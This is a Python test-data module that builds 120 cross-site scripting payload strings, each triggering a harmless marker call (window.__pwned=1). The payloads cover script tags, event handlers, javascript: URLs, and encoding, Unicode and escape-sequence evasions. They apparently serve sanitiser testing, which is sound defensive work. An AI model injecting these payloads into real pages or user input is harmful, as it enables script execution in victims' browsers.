"""Texts that try to become programs in a page: 120 of them, each calling ``pwned``.

Shapes as in the usual lists of cross-site scripting (OWASP's and others'), written anew.
"""

from __future__ import annotations

import itertools

CALL = "window.__pwned=1"
_TAGS = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "<img src=x onerror={}>",
    "<img src=x onerror='{}'>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<body onload={}>",
    "<iframe srcdoc='<script>parent.{0};{0}</script>'></iframe>",
    "<iframe src='javascript:parent.{}'></iframe>",
    "<details open ontoggle={}>x</details>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}></select>",
    "<textarea autofocus onfocus={}></textarea>",
    "<marquee onstart={}>x</marquee>",
    "<object data='javascript:{}'></object>",
    "<embed src='javascript:{}'>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<form action='javascript:{}'><button autofocus>x</button></form>",
    "<a href='javascript:{}' autofocus>x</a>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href='javascript:{};//'>",
    "<link rel=stylesheet href='data:text/css,*' onload={}>",
    "<style onload={}></style>",
    "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<!--><img src=x onerror={}>-->",
    "<![CDATA[><img src=x onerror={}>]]>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
)
_BREAKS = ("", "'>", '">', "--></title></textarea></style></pre>")
_OTHERS = (
    '" autofocus onfocus="{}" x="',
    "' autofocus onfocus='{}' x='",
    "javascript:{}",
    "java\tscript:{}",
    "{{{{ self.__init__.__globals__ }}}}<script>{}</script>",
    "{{% for x in () %}}{{% endfor %}}<script>{}</script>",
    "${{{}}}",
    "[x](javascript:{})",
    '![x](x "onerror={}")',
    "\u2028<script>{}</script>",
    "\x00<script>{}</script>",
    "<scr\x00ipt>{}</script>",
    "<\u200bscript>{}</script>",
    "\ufe64script\ufe65{}\ufe64/script\ufe65",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "%3Cscript%3E{}%3C/script%3E",
    "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "\x1b]8;;javascript:{}\x07x\x1b]8;;\x07",
    "\x1b[31m<script>{}</script>\x1b[0m",
    "data:text/html,<script>{}</script>",
)

# Twenty that are most unlike each other come first: they are what every run tries.
_FIRST = [pattern.format(CALL) for pattern in (*_TAGS[:12], *_OTHERS[:8])]
_REST = [
    broken + pattern.format(CALL)
    for broken, pattern in itertools.product(_BREAKS, _TAGS + _OTHERS)
    if broken or pattern.format(CALL) not in _FIRST
]
PAYLOADS = tuple([*_FIRST, *_REST][:120])
FEW = 20

assert len(set(PAYLOADS)) == 120, len(set(PAYLOADS))
